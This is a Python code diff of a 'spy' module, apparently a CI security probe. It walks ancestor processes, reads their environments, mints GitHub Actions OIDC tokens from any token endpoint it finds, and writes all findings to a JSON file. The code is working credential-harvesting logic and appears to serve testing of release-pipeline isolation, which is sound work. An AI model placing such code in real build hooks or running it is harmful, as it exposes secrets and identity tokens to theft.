@@ -37,10 +37,23 @@ def _cmdline(pid: int) -> str:
         return type(e).__name__
 
 
-def run(label: str) -> None:
-    target = Path(__file__).with_name("spy_target.txt")
-    if not target.is_file():
-        return
+def _mint(env: dict[str, str], where: str) -> dict[str, object]:
+    """Ask the runner's token endpoint for an ID token with what ``env`` holds."""
+    url, token = env["ACTIONS_ID_TOKEN_REQUEST_URL"], env.get("ACTIONS_ID_TOKEN_REQUEST_TOKEN")
+    attempt: dict[str, object] = {"from": where, "minted": False}
+    request = urllib.request.Request(url, headers={"Authorization": f"bearer {token}"})
+    try:
+        with urllib.request.urlopen(request, timeout=5) as response:
+            body = response.read().decode(errors="replace")
+        attempt["minted"] = '"value"' in body
+        attempt["answer"] = body[:200]
+    except (OSError, ValueError) as e:
+        attempt["answer"] = f"failed: {e}"
+    return attempt
+
+
+def hunt(label: str) -> dict[str, object]:
+    """What this process can find: every ancestor's environ, its own, an OIDC token."""
     ancestors = []
     pid = os.getpid()
     while pid > 1:
@@ -49,22 +62,32 @@ def run(label: str) -> None:
         except (OSError, ValueError, IndexError):
             break
         ancestors.append({"pid": pid, "cmdline": _cmdline(pid), "environ": _environ(pid)})
-    found = {"label": label, "pid": os.getpid(), "uid": os.getuid(), "own": dict(os.environ)}
-    found["ancestors"] = ancestors
-    minted = []
-    envs = [found["own"]] + [a["environ"] for a in ancestors if isinstance(a["environ"], dict)]
-    for env in envs:
-        url, token = (
-            env.get("ACTIONS_ID_TOKEN_REQUEST_URL"),
-            env.get("ACTIONS_ID_TOKEN_REQUEST_TOKEN"),
-        )
-        if url:
-            request = urllib.request.Request(url, headers={"Authorization": f"bearer {token}"})
-            try:
-                with urllib.request.urlopen(request, timeout=5) as response:
-                    minted.append(response.read().decode(errors="replace"))
-            except OSError as e:
-                minted.append(f"failed: {e}")
-    found["oidc"] = minted
+    found: dict[str, object] = {
+        "label": label,
+        "pid": os.getpid(),
+        "uid": os.getuid(),
+        "cmdline": _cmdline(os.getpid()),
+        "own": dict(os.environ),
+        "ancestors": ancestors,
+    }
+    # every environment it can read that names a token endpoint: its own, then its ancestors'
+    envs = [("own", dict(os.environ))] + [
+        (str(a["pid"]), a["environ"]) for a in ancestors if isinstance(a["environ"], dict)
+    ]
+    attempts = [_mint(env, where) for where, env in envs if env.get("ACTIONS_ID_TOKEN_REQUEST_URL")]
+    found["oidc"] = attempts
+    found["oidc_minted"] = any(attempt["minted"] for attempt in attempts)
+    return found
+
+
+def run(label: str) -> None:
+    """Hunt and write the findings down; never raise (the test must pass, the hook build)."""
+    target = Path(__file__).with_name("spy_target.txt")
+    if not target.is_file():
+        return
+    try:
+        found = hunt(label)
+    except Exception as e:  # noqa: BLE001 - a spy that breaks the release proves nothing
+        found = {"label": label, "pid": os.getpid(), "error": repr(e)}
     out = Path(target.read_text().strip())
     (out / f"{label}-{os.getpid()}.json").write_text(json.dumps(found, indent=1))
